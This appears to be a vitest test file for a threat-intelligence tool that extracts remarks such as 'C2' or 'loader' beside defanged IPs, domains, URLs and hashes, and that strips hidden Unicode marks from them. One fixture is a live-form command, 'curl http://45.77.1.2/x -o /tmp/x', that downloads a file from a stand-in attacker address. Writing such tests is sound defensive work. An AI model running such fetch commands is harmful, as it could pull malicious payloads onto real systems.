import { describe, expect, it } from 'vitest';
import type { BlockKind } from '../../../domain/article.ts';
import { articleOf } from '../../article-of.ts';
import { understand } from '../../understand.ts';

const hash = 'ab'.repeat(32);
const remarksIn = (kind: BlockKind, text: string) =>
  understand(articleOf({ body: [{ kind, text }] })).observables.map(({ remark = '' }) => remark);

const noted: [BlockKind, string, string[]][] = [
  // Rows: the other cells, without those that say of what kind it is or when it was seen.
  ['table', 'Indicator | Type | Context\n45.77.1[.]2 | IPv4 | C2', ['C2']],
  ['table', `${hash} | SHA-256 | 2025-03-01 | QUARTZMOTH DLL`, ['QUARTZMOTH DLL']],
  [
    'table',
    'Cobalt Strike beacon | 45.77.1[.]2, 45.77.1[.]3',
    ['Cobalt Strike beacon', 'Cobalt Strike beacon'],
  ],
  ['table', 'hxxps://login-a[.]top/x | URL | phishing page | 12 May 2025', ['phishing page']],
  ['table', '45.77.1[.]2 (exfiltration), 45.77.1[.]3 (C2) | Moth', ['exfiltration · Moth', 'C2 · Moth']],
  ['table', `setup.dll | ${hash} | loader`, ['loader', 'loader']],
  ['code', `evil-a[.]com\texfiltration server`, ['exfiltration server']],
  // What an attached file makes: two blanks, commas.
  ['code', 'evil-a[.]com  Moth C2\nevil-b[.]com', ['Moth C2', '']],
  ['code', 'evil-a[.]com,Moth C2,2025-01-01', ['Moth C2']],
  ['code', 'evil-a[.]com # staging', ['staging']],
  ['code', 'evil-a[.]com Moth C2', ['Moth C2']],
  // Entries of lists, with the remark on either side.
  ['item', '45.77.1[.]2 – exfiltration server', ['exfiltration server']],
  ['item', '45.77.1[.]2 - Moth C2, seen in May', ['Moth C2, seen in May']],
  ['item', '45.77.1[.]2: the panel', ['the panel']],
  ['item', `SHA256: ${hash} (loader)`, ['loader']],
  ['item', 'Moth download URL: hxxp://get-it[.]top/q.bin', ['Moth download URL']],
  ['item', 'C2: 45.77.1[.]2, 45.77.1[.]3 and 45.77.1[.]4', ['C2', 'C2', 'C2']],
  ['item', 'C2: 45.77.1[.]2, exfiltration: 45.77.1[.]3', ['C2', 'exfiltration']],
  ['item', '1. 45.77.1[.]2, 45.77.1[.]3 – panels', ['panels', 'panels']],
  ['item', '45.77.1[.]2 -> first stage', ['first stage']],
  ['paragraph', 'C2 servers: evil-a[.]com and evil-b[.]com', ['C2 servers', 'C2 servers']],
  ['paragraph', '• evil-a[.]com, C2', ['C2']],
];

const none: [BlockKind, string][] = [
  ['item', '45.77.1[.]2'],
  ['item', `SHA-256: ${hash}`],
  ['table', `MD5 | ${'ab'.repeat(16)}\nIP address | 45.77.1[.]2`],
  ['table', '45.77.1[.]2 | 443 | 2025-01-02 10:00 UTC'],
  ['paragraph', 'The backdoor contacts evil-a[.]com (its server) and then sleeps.'],
  ['paragraph', 'evil-a[.]com, a domain that was registered in May, was used to lure staff.'],
  ['paragraph', 'evil-a[.]com was registered in May.'],
  ['paragraph', 'In the night of the attack all of these servers talked to one host: evil-a[.]com'],
  ['paragraph', 'For more information, see: https://vendor.org/report'],
  ['heading', 'evil-a[.]com: what we know'],
  ['code', 'curl http://45.77.1.2/x -o /tmp/x'],
  ['code', 'const host = "evil-a[.]com";'],
  ['item', 'invoice.zip --> invoice.js --> Moth --> Beacon'],
  [
    'table',
    '2025-01-02 | On that day the operators moved from the file server to evil-a[.]com and on to other hosts | Day 3',
  ],
];

describe('what is noted beside an observable', () => {
  it.each(noted)('%s: %s', (kind, text, expected) => expect(remarksIn(kind, text)).toEqual(expected));
  it.each(none)('nothing: %s: %s', (kind, text) => expect(remarksIn(kind, text).filter(Boolean)).toEqual([]));

  it('is cut, and has no marks that turn or hide the text around it', () => {
    const [long] = remarksIn('table', `45.77.1[.]2 | ${'a very long remark '.repeat(40)}`);
    expect(long!.length).toBeLessThanOrEqual(161);
    expect(long).toMatch(/^a very long remark .*…$/);
    expect(remarksIn('table', '45.77.1[.]2 | pan\u202eel \u0007of\u200b <b>Moth</b>')).toEqual([
      'pan el of <b>Moth</b>',
    ]);
  });
});
